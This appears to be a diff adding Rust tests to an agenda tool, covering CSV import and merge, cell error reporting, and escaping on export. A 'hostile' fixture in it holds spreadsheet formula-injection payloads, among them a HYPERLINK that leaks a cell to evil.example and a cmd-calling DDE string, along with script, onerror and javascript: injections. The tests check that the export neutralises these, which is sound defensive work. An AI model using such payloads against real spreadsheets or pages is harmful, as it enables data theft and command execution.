@@ -1619,3 +1619,200 @@ fn an_opendocument_sheet_repeating_a_cell_far_out_is_refused() {
         "repeats.ods:Run!BM3: this cell is beyond the 20000 rows and 64 columns",
     );
 }
+
+// ------------------------------------------------ updating an agenda
+
+/// The shipped show's times and titles only, as a producer keeps them: no
+/// role, organisation, moderator or notes column. The panel starts five
+/// minutes late and a break is added before the closing.
+const TIMES_ONLY_CSV: &str = "\
+Start,End,Title,Speakers
+9:00 AM,9:10 AM,Welcome and Introduction,Cristiano Façanha; Huiming Gong
+9:10 AM,9:25 AM,Technology and Commercialization Pathways and Timing for ZE-MHDVs in China,\"Baha M. Al-Alawi, PhD.; Owen MacDonnell\"
+9:25 AM,9:40 AM,Zero-emission truck real-world performance in U.S. and Europe and implications for China,Yin Qiu; Shuhan Song
+9:45 AM,10:10 AM,Panel Discussion,Yunshi WANG; Shiyue MAO; Zhe WANG; Ying XIONG
+10:10 AM,10:25 AM,Q&A,
+10:25 AM,10:28 AM,Break,
+10:28 AM,10:30 AM,Closing,
+";
+
+#[test]
+fn importing_into_an_agenda_keeps_what_the_sheet_lacks_and_the_old_agenda() {
+    let dir = TempDir::new("merge");
+    let original = shipped_text();
+    dir.file("agenda.toml", &original);
+    dir.file("rundown.csv", TIMES_ONLY_CSV);
+    let run = dir.run(&["import", "rundown.csv"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(
+        run.stdout,
+        "agenda.toml: updated with 7 segments from rundown.csv (2 changed, 1 added, 4 unchanged)\n\
+         \x20 changed 4. \"Panel Discussion\": start 09:40 → 09:45\n\
+         \x20 added   6. \"Break\", 10:25–10:28\n\
+         \x20 changed 7. \"Closing\": start 10:25 → 10:28\n\
+         \x20 kept from the agenda, where the sheet has no column for them: moderators, notes, organizations, roles\n\
+         \x20 the old agenda is kept as agenda.toml.bak\n",
+        "{}",
+        run.stderr
+    );
+    // The old agenda, byte for byte; the new one keeps every person's role,
+    // organisation and zone, both moderators and the notes.
+    assert_eq!(dir.read("agenda.toml.bak"), original);
+    let (old, new) = (load(&shipped()), load(&dir.0.join("agenda.toml")));
+    assert_eq!(new.segments.len(), 7);
+    for (before, after) in [(0, 0), (1, 1), (2, 2), (3, 3), (4, 4), (5, 6)] {
+        let (before, after) = (&old.segments[before], &new.segments[after]);
+        assert_eq!(after.title, before.title);
+        assert_eq!(after.moderator, before.moderator, "{}", after.title);
+        assert_eq!(after.speakers, before.speakers, "{}", after.title);
+        assert_eq!(after.notes, before.notes, "{}", after.title);
+    }
+    assert_eq!(
+        new.segments[4]
+            .moderator
+            .as_ref()
+            .unwrap()
+            .role_label
+            .as_deref(),
+        Some("Facilitated by")
+    );
+    assert_eq!((new.contacts, new.clocks), (old.contacts, old.clocks));
+
+    // The same sheet again changes nothing and writes nothing.
+    let again = dir.run(&["import", "rundown.csv"]);
+    assert_eq!(
+        again.stdout,
+        "agenda.toml: already as rundown.csv says (7 segments): nothing written\n"
+    );
+    // A change with a backup there already: the old one gets a timestamp.
+    let updated = dir.read("agenda.toml");
+    dir.file("rundown.csv", &TIMES_ONLY_CSV.replace("Break", "Coffee"));
+    let third = dir.run(&["import", "rundown.csv"]);
+    assert_eq!(third.code, 0, "{}", third.stderr);
+    let kept = third.stdout.lines().last().unwrap();
+    let stamped = kept.strip_prefix("  the old agenda is kept as ").unwrap();
+    assert!(stamped.starts_with("agenda.toml.bak-20"), "{kept}");
+    assert_eq!(dir.read(stamped), updated);
+    assert_eq!(dir.read("agenda.toml.bak"), original);
+}
+
+#[test]
+fn every_bad_cell_is_told_in_one_run_however_it_is_found() {
+    let dir = TempDir::new("all-at-once");
+    dir.file("agenda.toml", &agenda_to_update());
+    let before = dir.read("agenda.toml");
+    // A cell that does not read (B2), a row out of order (A4), a duration
+    // that disagrees with its end (C5), a row with no title (D6) and a last
+    // row with no end (B7): found by three different passes.
+    dir.file(
+        "rundown.csv",
+        "Start,End,Duration,Title\n\
+         09:00,9h45,,Talk\n\
+         09:45,10:00,,Second\n\
+         09:30,09:40,,Out of order\n\
+         10:00,10:30,20,Disagrees\n\
+         10:30,10:40,,\n\
+         10:40,,,Last\n",
+    );
+    let run = dir.run(&["import", "rundown.csv"]);
+    assert_eq!(run.code, 1);
+    assert_eq!(
+        run.stderr,
+        "rundown.csv:B2: \"9h45\" is not a time: write 09:45\n\
+         rundown.csv:A4: 09:30 is earlier than 10:00, the time above it, so it falls on the next day, 23h30m later: if that is meant, add a Date column, otherwise fix the time\n\
+         rundown.csv:C5: the duration \"20\" does not match the end \"10:30\" (30m after the start): fix one of them, or clear the duration\n\
+         rundown.csv:D6: this row has no title: write the segment's title (or clear the row)\n\
+         rundown.csv:B7: the last row has no end: give it an end time or a duration\n\
+         nothing written: fix the cells above and import again\n"
+    );
+    assert_eq!(dir.read("agenda.toml"), before);
+}
+
+// ---------------------------------------------------- safe to open
+
+/// Agenda text a spreadsheet or a Markdown renderer would run.
+const HOSTILE: &str = r#"[event]
+title = "<script>alert(1)</script> & friends"
+date = 2022-06-01
+timezone = "UTC"
+
+[[segment]]
+title = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"
+start = "09:00"
+end = "09:10"
+speakers = [ { name = "@SUM(1+1)*cmd|' /C calc'!A0", role = "+1 Director" } ]
+notes = "-2+3 [x](javascript:alert(1)) ![](http://evil.example/p.png) <img src=x onerror=alert(1)> &lt;b&gt; *bold* `code`"
+
+[[segment]]
+title = "'=already quoted"
+start = "09:10"
+end = "09:20"
+cues = ["\tTabbed", "=1+1"]
+"#;
+
+#[test]
+fn a_csv_export_never_runs_a_formula_and_imports_back_as_written() {
+    let dir = TempDir::new("formulas");
+    dir.file("hostile.toml", HOSTILE);
+    let run = dir.run(&["export", "hostile.toml", "-o", "hostile.csv"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let sheet = dir.read("hostile.csv");
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(sheet.as_bytes());
+    let cells: Vec<String> = reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
+        .collect();
+    // No cell starts as a formula; each such text has a ' in front.
+    for cell in &cells {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?} would run"
+        );
+    }
+    for shown in [
+        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'+1 Director",
+        "''=already quoted",
+    ] {
+        assert!(cells.iter().any(|c| c == shown), "{shown:?} in {cells:?}");
+    }
+    let back = dir.run(&["import", "hostile.csv", "-o", "back.toml"]);
+    assert_eq!(back.code, 0, "{}", back.stderr);
+    let (mut written, read) = (
+        load(&dir.0.join("hostile.toml")),
+        load(&dir.0.join("back.toml")),
+    );
+    // Import trims the spaces around a cell's text, a tab among them.
+    written.segments[1].cues[0] = "Tabbed".into();
+    assert_eq!(read.segments, written.segments);
+}
+
+#[test]
+fn a_markdown_export_shows_html_and_links_as_text() {
+    let dir = TempDir::new("markdown");
+    dir.file("hostile.toml", HOSTILE);
+    let run = dir.run(&["export", "hostile.toml", "--format", "markdown"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let text = run.stdout;
+    for raw in ["<script", "<img", "[x](", "![](", "&lt;b"] {
+        assert!(!text.contains(raw), "{raw:?} in {text}");
+    }
+    assert!(
+        text.starts_with("# &lt;script&gt;alert(1)&lt;/script&gt; & friends\n"),
+        "{text}"
+    );
+    assert!(
+        text.contains(
+            "Notes: -2+3 \\[x\\](javascript:alert(1)) !\\[\\](http://evil.example/p.png) \
+             &lt;img src=x onerror=alert(1)&gt; &amp;lt;b&amp;gt; \\*bold\\* \\`code\\`"
+        ),
+        "{text}"
+    );
+    assert!(
+        text.contains("- @SUM(1+1)\\*cmd\\|' /C calc'!A0, +1 Director"),
+        "{text}"
+    );
+}
